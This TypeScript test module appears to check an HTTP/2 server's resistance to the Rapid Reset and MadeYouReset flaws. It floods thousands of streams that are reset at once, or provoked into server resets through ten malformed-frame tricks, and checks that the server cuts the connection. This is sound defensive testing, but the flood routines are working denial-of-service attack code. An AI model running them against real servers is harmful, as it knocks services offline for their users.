// Streams that end before their time: by the client's resets, and by the server's own, provoked ones.
import { setTimeout as sleep } from 'node:timers/promises'
import {
  CANCEL,
  data,
  frame,
  headers,
  INITIAL_WINDOW_SIZE,
  MAX_WINDOW,
  priority,
  PRIORITY,
  RST_STREAM,
  rst,
  windowUpdate,
} from '../h2-prober/frames.ts'
import { block } from '../h2-prober/hpack.ts'
import { get, post, requestBlock } from '../h2-prober/requests.ts'
import {
  attacksOf,
  begin,
  flood,
  type H2Attack,
  type H2Target,
  mustEnd,
  mustServe,
  PATIENCE,
} from './attack.ts'

const rapid = attacksOf('CVE-2023-44487')
const provoked = attacksOf('CVE-2025-8671')
// So that no response ends a stream before it is abused.
const HELD: readonly (readonly [number, number])[] = [[INITIAL_WINDOW_SIZE, 0]]

function id(index: number): number {
  return 2 * index + 1
}

function resetAtOnce(index: number): Buffer {
  return Buffer.concat([post(id(index), '/ignore-slow'), rst(id(index), CANCEL)])
}

async function rapidReset(target: H2Target, times: number, batch: number): Promise<string | null> {
  const wire = await begin(target)
  await flood(wire, times, resetAtOnce, batch)
  const wrong = await mustEnd(wire)
  if (wrong !== null) return wrong
  // 200 in a burst, 33 per second after it, and what had come before the verdict.
  return target.requests() > 1_200 ? `the service was called ${target.requests()} times` : null
}

/** Ways to make a server reset a stream. */
const PROVOCATIONS: readonly (readonly [name: string, piece: (stream: number) => Uint8Array])[] = [
  ['WINDOW_UPDATE of 0', (stream) => Buffer.concat([post(stream, '/ignore-slow'), windowUpdate(stream, 0)])],
  [
    'a window overflow',
    (stream) => Buffer.concat([post(stream, '/ignore-slow'), windowUpdate(stream, MAX_WINDOW)]),
  ],
  ['DATA after END_STREAM', (stream) => Buffer.concat([get(stream), data(stream, 'x')])],
  [
    'HEADERS after END_STREAM',
    (stream) => Buffer.concat([get(stream), headers(stream, block(['x-t', 'v']))]),
  ],
  ['a malformed head', (stream) => headers(stream, block([':method', 'GET'], ['X', 'v']))],
  [
    'an empty field name',
    (stream) => headers(stream, Buffer.concat([requestBlock('GET', '/'), block(['', 'a'], ['', 'b'])])),
  ],
  [
    'a short PRIORITY',
    (stream) => Buffer.concat([post(stream, '/ignore-slow'), frame(PRIORITY, 0, stream, Buffer.alloc(4))]),
  ],
  [
    'a stream that depends on itself',
    (stream) => Buffer.concat([post(stream, '/ignore-slow'), priority(stream, { on: stream })]),
  ],
  [
    'DATA beyond Content-Length',
    (stream) => Buffer.concat([post(stream, '/ignore-slow', ['content-length', '1']), data(stream, 'xx')]),
  ],
  [
    'malformed trailers',
    (stream) => Buffer.concat([post(stream, '/ignore-slow'), headers(stream, block([':path', '/']))]),
  ],
]

async function madeYouReset(
  target: H2Target,
  piece: (stream: number) => Uint8Array,
  times: number,
): Promise<string | null> {
  const wire = await begin(target, HELD)
  await flood(wire, times, (index) => piece(id(index)), 50)
  return mustEnd(wire)
}

async function fewResets(
  target: H2Target,
  piece: (stream: number) => Uint8Array,
  times: number,
): Promise<string | null> {
  const wire = await begin(target)
  await flood(wire, times, (index) => piece(id(index)), 50)
  await wire.until(
    (w) => w.closed || w.frames.filter(({ type }) => type === RST_STREAM).length >= times,
    PATIENCE,
  )
  return mustServe(wire, id(times))
}

export const RESET_ATTACKS: readonly H2Attack[] = [
  rapid.beyond('4,000 requests, each reset at once, ten in a packet', (target) =>
    rapidReset(target, 4_000, 10),
  ),
  rapid.beyond('4,000 requests, each reset at once, a thousand in a packet', (target) =>
    rapidReset(target, 4_000, 1_000),
  ),
  rapid.beyond('requests that are reset a moment later', async (target) => {
    const wire = await begin(target)
    for (let round = 0; round < 8 && !wire.closed; round++) {
      await flood(wire, 50, (index) => post(id(round * 50 + index), '/ignore-slow'), 50)
      await sleep(5)
      await flood(wire, 50, (index) => rst(id(round * 50 + index)), 50)
    }
    return mustEnd(wire)
  }),
  rapid.within('190 requests that are reset', async (target) => {
    const wire = await begin(target)
    await flood(wire, 190, resetAtOnce, 10)
    return mustServe(wire, id(190))
  }),
  rapid.within('1,000 requests that are reset after their answer', async (target) => {
    const wire = await begin(target)
    for (let index = 0; index < 1_000; index += 50) {
      await flood(wire, 50, (offset) => get(id(index + offset)), 50)
      const last = id(index + 49)
      await wire.until(
        (w) => w.frames.some(({ stream, flags }) => stream === last && (flags & 1) !== 0),
        PATIENCE,
      )
      await flood(wire, 50, (offset) => rst(id(index + offset)), 50)
    }
    return mustServe(wire, id(1_000))
  }),
  ...PROVOCATIONS.map(([name, piece]) =>
    provoked.beyond(`4,000 streams that are made to be reset by ${name}`, (target) =>
      madeYouReset(target, piece, 4_000),
    ),
  ),
  ...PROVOCATIONS.slice(0, 2).map(([name, piece]) =>
    provoked.within(`1,000 streams with ${name}`, (target) => fewResets(target, piece, 1_000)),
  ),
  provoked.within('1,000 malformed heads', (target) => fewResets(target, PROVOCATIONS[4]![1], 1_000)),
]
